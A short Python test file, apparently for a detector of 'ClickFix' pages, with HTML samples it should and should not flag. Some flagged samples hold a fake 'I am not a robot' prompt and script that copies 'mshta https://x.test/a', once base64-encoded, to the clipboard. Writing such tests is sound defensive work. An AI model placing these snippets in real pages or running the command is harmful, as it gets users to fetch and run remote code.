from tests.pages import CLICKFIX, DOCS, NEWS, example, landing

ENCODED = (
    "<p>I am not a robot: press Win+R, then paste and press Enter</p><script>document.execCommand("
    "'copy'); run('bXNodGEgaHR0cHM6Ly94LnRlc3QvYQ==')</script>"
)
HIDDEN = (
    "<button onclick=\"navigator.clipboard.writeText('mshta https://x.test/a')\">Copy the code"
    "</button>"
)
HIT = [
    example(CLICKFIX),
    example(CLICKFIX, at=landing(official=True)),
    example(ENCODED),
    example(HIDDEN),
]
CLEAN = [
    example(DOCS),
    example(NEWS),
    example("<p>Press Windows + R and type control to open it.</p>"),
    example("<script>navigator.clipboard.writeText(address)</script><p>Copy address</p>"),
]
